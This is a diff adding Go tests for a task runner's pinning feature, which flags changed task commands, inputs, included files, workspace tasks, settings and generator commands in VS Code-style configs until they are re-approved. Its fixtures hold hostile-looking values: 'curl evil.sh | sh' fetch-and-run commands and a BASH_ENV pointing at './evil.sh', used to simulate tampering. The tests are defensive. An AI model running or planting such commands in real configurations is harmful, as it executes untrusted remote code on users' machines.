@@ -0,0 +1,206 @@
+package tasks
+
+import (
+	"path/filepath"
+	"testing"
+)
+
+func TestCheckPinnedTasks(t *testing.T) {
+	isolateTasksFile(t)
+	t.Setenv("VSTASK_STATE_DIR", t.TempDir())
+	root := t.TempDir()
+	tasksPath := filepath.Join(root, ".vscode", "tasks.json")
+
+	if _, ok, err := CheckPinnedTasks(root); err != nil || !ok {
+		t.Fatalf("no tasks.json: %v, %v", ok, err)
+	}
+
+	writeTestFile(t, tasksPath, `{"tasks": [{"label": "build", "command": "make"}, {"label": "lint", "command": "eslint ."}]}`)
+	if _, ok, err := CheckPinnedTasks(root); err != nil || !ok {
+		t.Fatalf("first use pins the file: %v, %v", ok, err)
+	}
+
+	// formatting/comments only: still approved
+	writeTestFile(t, tasksPath, `{
+		// reformatted
+		"tasks": [{"label": "build", "command": "make"}, {"label": "lint", "command": "eslint ."}]
+	}`)
+	if _, ok, err := CheckPinnedTasks(root); err != nil || !ok {
+		t.Fatalf("formatting change: %v, %v", ok, err)
+	}
+
+	writeTestFile(t, tasksPath, `{"tasks": [{"label": "build", "command": "curl evil.sh | sh"}, {"label": "test", "command": "go test"}]}`)
+	changes, ok, err := CheckPinnedTasks(root)
+	if err != nil || ok {
+		t.Fatalf("changed tasks must not be approved: %v, %v", ok, err)
+	}
+	var kinds []string
+	for _, c := range changes.Tasks {
+		kinds = append(kinds, c.Label+":"+c.Kind())
+	}
+	if got, want := kinds, []string{"build:modified", "test:added", "lint:removed"}; !equalStrings(got, want) {
+		t.Fatalf("changes = %v, want %v", got, want)
+	}
+	// still unapproved on the next check
+	if _, ok, _ := CheckPinnedTasks(root); ok {
+		t.Fatal("changes stay unapproved until PinTasks")
+	}
+
+	if err := PinTasks(root); err != nil {
+		t.Fatal(err)
+	}
+	if _, ok, err := CheckPinnedTasks(root); err != nil || !ok {
+		t.Fatalf("after PinTasks: %v, %v", ok, err)
+	}
+}
+
+func TestCheckPinnedTasks_EverySource(t *testing.T) {
+	isolateTasksFile(t)
+	t.Setenv("VSTASK_STATE_DIR", t.TempDir())
+	root := t.TempDir()
+	writeTestFile(t, filepath.Join(root, ".vscode", "tasks.json"), `{
+		"tasks": [{"label": "build", "command": "make ${input:target}"}],
+		"inputs": [{"id": "target", "type": "promptString"}],
+		"include": ["shared.json"]
+	}`)
+	shared := filepath.Join(root, ".vscode", "shared.json")
+	writeTestFile(t, shared, `{"tasks": [{"label": "lint", "command": "eslint ."}]}`)
+	if _, ok, err := CheckPinnedTasks(root); err != nil || !ok {
+		t.Fatalf("first use: %v, %v", ok, err)
+	}
+
+	// an included file changes; tasks.json doesn't
+	writeTestFile(t, shared, `{"tasks": [{"label": "lint", "command": "curl evil.sh | sh"}]}`)
+	changes, ok, err := CheckPinnedTasks(root)
+	if err != nil || ok || len(changes.Tasks) != 1 || changes.Tasks[0].Label != "lint" {
+		t.Fatalf("an included task changed: %+v, %v, %v", changes, ok, err)
+	}
+	if err := PinTasks(root); err != nil {
+		t.Fatal(err)
+	}
+
+	// an input changes
+	writeTestFile(t, filepath.Join(root, ".vscode", "tasks.json"), `{
+		"tasks": [{"label": "build", "command": "make ${input:target}"}],
+		"inputs": [{"id": "target", "type": "command", "command": "curl evil.sh | sh"}],
+		"include": ["shared.json"]
+	}`)
+	changes, ok, err = CheckPinnedTasks(root)
+	if err != nil || ok || len(changes.Tasks) != 0 || len(changes.Inputs) != 1 || changes.Inputs[0].ID != "target" {
+		t.Fatalf("an input changed: %+v, %v, %v", changes, ok, err)
+	}
+	if err := PinTasks(root); err != nil {
+		t.Fatal(err)
+	}
+
+	// a task is added in the .code-workspace file
+	writeTestFile(t, filepath.Join(root, "app.code-workspace"), `{"folders": [{"path": "."}], "tasks": {"tasks": [{"label": "deploy", "command": "./deploy"}]}}`)
+	changes, ok, err = CheckPinnedTasks(root)
+	if err != nil || ok || len(changes.Tasks) != 1 || changes.Tasks[0].Label != "deploy" || changes.Tasks[0].Kind() != "added" {
+		t.Fatalf("a workspace-file task was added: %+v, %v, %v", changes, ok, err)
+	}
+}
+
+func TestCheckPinnedTasks_Settings(t *testing.T) {
+	isolateTasksFile(t)
+	t.Setenv("VSTASK_STATE_DIR", t.TempDir())
+	root := t.TempDir()
+	t.Chdir(root)
+	writeTestFile(t, filepath.Join(root, ".vscode", "tasks.json"), `{"tasks": [{"label": "build", "type": "npm", "script": "build"}]}`)
+	settings := filepath.Join(root, ".vscode", "settings.json")
+	rc := filepath.Join(root, RCFileName)
+	if _, ok, err := CheckPinnedTasks(root); err != nil || !ok {
+		t.Fatalf("first use: %v, %v", ok, err)
+	}
+
+	for _, tc := range []struct {
+		name, file, content, setting string
+	}{
+		{"taskTypes", settings, `{"vstask.taskTypes": {"gulp": "curl evil.sh | sh"}}`, "vstask.taskTypes"},
+		{"packageManager", settings, `{"vstask.taskTypes": {"gulp": "curl evil.sh | sh"}, "npm.packageManager": "./evil"}`, "npm.packageManager"},
+		{"shellFallback", settings, `{"vstask.taskTypes": {"gulp": "curl evil.sh | sh"}, "npm.packageManager": "./evil", "vstask.shellFallback": "always"}`, "vstask.shellFallback"},
+		{"windowsShell", settings, `{"vstask.taskTypes": {"gulp": "curl evil.sh | sh"}, "npm.packageManager": "./evil", "vstask.shellFallback": "always", "vstask.windowsShell": "bash"}`, "vstask.windowsShell"},
+		{"rc env", rc, `{"env": {"BASH_ENV": "./evil.sh"}}`, ".vstaskrc env"},
+		{"rc env changed", rc, `{"env": {"BASH_ENV": "./evil.sh", "PATH": "./bin"}}`, ".vstaskrc env"},
+	} {
+		writeTestFile(t, tc.file, tc.content)
+		changes, ok, err := CheckPinnedTasks(root)
+		if err != nil || ok || len(changes.Tasks) != 0 || len(changes.Settings) != 1 || changes.Settings[0].Name != tc.setting {
+			t.Fatalf("%s: %+v, %v, %v", tc.name, changes, ok, err)
+		}
+		if err := PinTasks(root); err != nil {
+			t.Fatal(err)
+		}
+		if _, ok, err := CheckPinnedTasks(root); err != nil || !ok {
+			t.Fatalf("%s: after PinTasks: %v, %v", tc.name, ok, err)
+		}
+	}
+
+	// a .vstaskrc without env runs nothing
+	writeTestFile(t, filepath.Join(root, "app", RCFileName), `{"defaultTask": "build"}`)
+	t.Chdir(filepath.Join(root, "app"))
+	if _, ok, err := CheckPinnedTasks(root); err != nil || !ok {
+		t.Fatalf("rc without env: %v, %v", ok, err)
+	}
+}
+
+func TestPinningEnabled(t *testing.T) {
+	root := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv("HOME", t.TempDir())
+
+	if PinningEnabled(root) {
+		t.Fatal("off by default")
+	}
+	writeTestFile(t, filepath.Join(root, ".vscode", "settings.json"), `{"vstask.pinTasks": true}`)
+	if !PinningEnabled(root) {
+		t.Fatal("workspace settings can turn it on")
+	}
+	t.Setenv("VSTASK_PIN_TASKS", "0")
+	if PinningEnabled(root) {
+		t.Fatal("VSTASK_PIN_TASKS overrides settings")
+	}
+}
+
+func equalStrings(a, b []string) bool {
+	if len(a) != len(b) {
+		return false
+	}
+	for i := range a {
+		if a[i] != b[i] {
+			return false
+		}
+	}
+	return true
+}
+
+func TestCheckPinnedGenerator(t *testing.T) {
+	isolateTasksFile(t)
+	t.Setenv("VSTASK_STATE_DIR", t.TempDir())
+	t.Setenv("VSTASK_TRUST_ALL", "1")
+	root := t.TempDir()
+	writeTestFile(t, filepath.Join(root, ".vscode", "tasks.json"), `{"tasks": [{"label": "build"}]}`)
+	settings := filepath.Join(root, ".vscode", "settings.json")
+	writeTestFile(t, settings, `{"vstask.tasksFile.generate": "./gen.sh"}`)
+
+	if _, _, ok, err := CheckPinnedGenerator(root); err != nil || !ok {
+		t.Fatalf("nothing pinned yet: %v, %v", ok, err)
+	}
+	if _, ok, err := CheckPinnedTasks(root); err != nil || !ok {
+		t.Fatalf("first use: %v, %v", ok, err)
+	}
+	writeTestFile(t, settings, `{"vstask.tasksFile.generate": "curl evil.sh | sh"}`)
+	old, cur, ok, err := CheckPinnedGenerator(root)
+	if err != nil || ok || old != "./gen.sh" || cur != "curl evil.sh | sh" {
+		t.Fatalf("changed generator: %q → %q, %v, %v", old, cur, ok, err)
+	}
+	if err := PinGenerator(root); err != nil {
+		t.Fatal(err)
+	}
+	if _, _, ok, err := CheckPinnedGenerator(root); err != nil || !ok {
+		t.Fatalf("after PinGenerator: %v, %v", ok, err)
+	}
+	if _, ok, err := CheckPinnedTasks(root); err != nil || !ok {
+		t.Fatalf("the tasks didn't change: %v, %v", ok, err)
+	}
+}